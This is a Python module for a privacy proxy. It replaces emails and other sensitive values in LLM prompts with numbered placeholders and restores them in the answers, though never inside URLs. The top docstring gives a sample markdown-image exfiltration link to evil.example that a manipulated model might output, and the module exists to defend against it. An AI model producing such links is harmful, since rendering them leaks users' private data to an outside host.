"""Typed placeholders for what a prompt must not carry, and the way back for the answer.

Rules. ``[EMAIL_1]``: entity type and a number by first appearance in the request, one placeholder per distinct value
and type. A client that resends its conversation gets the same numbers again, so no vault is needed and a provider's
prompt cache keeps working. A placeholder that already stands in the request as a literal is never given out.

The way back. Only placeholders of this request, spelt exactly so, are replaced. Never inside a URL: a model that was
talked into ``![](https://evil.example/?q=[EMAIL_1])`` must not make the client send the address away by rendering it.

The map lives as long as its request and must not be logged: it holds the values.
"""

import json
import re
from collections.abc import Iterable, Sequence

from outpost.core.detect.finding import Finding
from outpost.core.detect.normalise import decode_json_text
from outpost.core.detect.urls import UrlWatch

_PLACEHOLDER = re.compile(r"\[[A-Z][A-Z0-9_]*_[1-9][0-9]*\]")


class PlaceholderMap:
    """The placeholders of one request."""

    def __init__(self, texts: Iterable[str] = ()) -> None:
        """Start empty.

        Args:
            texts: every text of the request, before any is redacted: placeholders that stand there are avoided.
        """
        self._taken = {found for text in texts for found in _PLACEHOLDER.findall(text)}
        self._by_value: dict[tuple[str, str], str] = {}
        self._values: dict[str, str] = {}
        self._last: dict[str, int] = {}
        self._prefixes: set[str] = set()

    def __len__(self) -> int:
        """Placeholders given out."""
        return len(self._values)

    def redact(self, text: str, findings: Sequence[Finding], *, json_string: bool = False) -> str:
        """Replace findings.

        Args:
            text: original.
            findings: spans of ``text``, in order, as ``Scanner.scan`` returns them.
            json_string: the text is a JSON document given as a string; values are kept unescaped.
        """
        out: list[str] = []
        at = 0
        for finding in findings:
            start = max(finding.start, at)
            if finding.end <= start:
                continue
            value = text[start : finding.end]
            out += (
                text[at:start],
                self._placeholder(finding.entity_type, decode_json_text(value) if json_string else value),
            )
            at = finding.end
        out.append(text[at:])
        return "".join(out)

    def restore(self, text: str, *, json_string: bool = False) -> str:
        """Put the values back into a whole text, outside URLs; in a JSON text escaped as JSON demands."""
        stream = self.stream(json_string=json_string)
        return stream.feed(text) + stream.finish()

    def restore_tail_start(self, text: str) -> int:
        """Where a placeholder may have begun that the end of ``text`` cuts; ``len(text)`` if none."""
        at = text.rfind("[")
        return at if at >= 0 and text[at:] in self._prefixes else len(text)

    def stream(self, *, json_string: bool = False) -> "RestoreStream":
        """Restore a text that arrives in pieces."""
        return RestoreStream(self, json_string=json_string)

    def value_of(self, placeholder: str) -> str | None:
        """The value behind a placeholder of this request, or None."""
        return self._values.get(placeholder)

    def _placeholder(self, entity_type: str, value: str) -> str:
        known = self._by_value.get((entity_type, value))
        if known is not None:
            return known
        number = self._last.get(entity_type, 0)
        placeholder = ""
        while not placeholder or placeholder in self._taken:
            number += 1
            placeholder = f"[{entity_type.upper()}_{number}]"
        self._last[entity_type] = number
        self._by_value[entity_type, value] = placeholder
        self._values[placeholder] = value
        self._prefixes.update(placeholder[:size] for size in range(1, len(placeholder)))
        return placeholder


class RestoreStream:
    """Restores one channel: a ``Restorer`` for ``chat.window``."""

    def __init__(self, placeholders: PlaceholderMap, *, json_string: bool) -> None:
        self._placeholders = placeholders
        self._json_string = json_string
        self._held = ""
        self._url = UrlWatch()  # follows what stands before ``_held``, as the provider sent it

    def feed(self, text: str) -> str:
        """Restore one more piece; the beginning of a placeholder at its end is kept back."""
        if not self._placeholders:
            return text
        text = self._held + text
        cut = self._placeholders.restore_tail_start(text)
        text, self._held = text[:cut], text[cut:]
        out: list[str] = []
        at = 0
        for found in _PLACEHOLDER.finditer(text):
            value = self._placeholders.value_of(found[0])
            if value is None:
                continue
            before = text[at : found.start()]
            self._pass(before)
            out.append(before)
            out.append(found[0] if self._url.inside() else self._written(value))
            self._pass(found[0])
            at = found.end()
        self._pass(text[at:])
        out.append(text[at:])
        return "".join(out)

    def skip(self, token: str) -> str:
        """Pass a token that is never restored; what was kept back is complete before it."""
        held = self.finish()
        self._pass(token)
        return held + token

    def finish(self) -> str:
        """Return what was kept back: no placeholder after all."""
        held, self._held = self._held, ""
        self._pass(held)
        return held

    def _pass(self, text: str) -> None:
        self._url.feed(decode_json_text(text) if self._json_string else text)

    def _written(self, value: str) -> str:
        return json.dumps(value, ensure_ascii=False)[1:-1] if self._json_string else value
